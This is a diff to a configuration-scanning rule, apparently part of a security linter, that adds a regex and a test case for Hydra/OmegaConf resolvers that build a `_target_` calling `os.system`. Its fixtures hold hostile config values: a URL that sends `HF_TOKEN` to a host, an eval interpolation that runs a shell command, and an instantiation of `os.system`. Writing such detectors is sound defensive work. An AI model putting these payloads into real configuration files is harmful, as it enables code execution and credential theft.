@@ -8,6 +8,9 @@ const ENVIRONMENT = /\$\{\s{0,9}(?:oc\.)?env\s{0,9}:\s{0,9}["']?([A-Za-z_]\w{0,9
 const EVALUATION =
   /\$\{\s{0,9}(?:eval|python|exec|cmd|shell)\s{0,9}:[^}]*(?:__|\bos\.|subprocess|import|open\(|exec\(|eval\()/;
 
+/** A map put together by a resolver, which no reader of the file sees as one. */
+const CREATION = /\$\{\s{0,9}oc\.(?:create|decode)\s{0,9}:[^]*_target_/;
+
 export const configInterpolation = documentRule<{ found: string; expression: string }>()({
   id: 'config-interpolation',
   title: 'Configuration reads the environment or computes what it calls',
@@ -20,6 +23,7 @@ export const configInterpolation = documentRule<{ found: string; expression: str
     bad: [
       { name: 'config.yaml', content: 'logger:\n  url: "https://example.com/?t=${oc.env:HF_TOKEN}"\n' },
       { name: 'config.yaml', content: 'm: os\nmodel:\n  _target_: ${m}.system\n' },
+      { name: 'config.yaml', content: 'x: "${oc.create:{_target_: os.system}}"\n' },
       { name: 'config.yaml', content: 'x: ${eval:\'__import__("os").system("id")\'}\n' },
     ],
     good: [
@@ -34,6 +38,8 @@ export const configInterpolation = documentRule<{ found: string; expression: str
       const expression = text.slice(0, 200);
       if ((place.step === '_target_' || place.step === 'class_path') && text.includes('${')) {
         report(place, { found: 'what is called is put together by interpolation', expression }, 'high');
+      } else if (CREATION.test(text.slice(0, 10_000))) {
+        report(place, { found: 'an interpolation writes what is instantiated', expression }, 'critical');
       } else if (EVALUATION.test(text.slice(0, 10_000))) {
         report(place, { found: 'an interpolation evaluates code', expression }, 'high');
       } else {
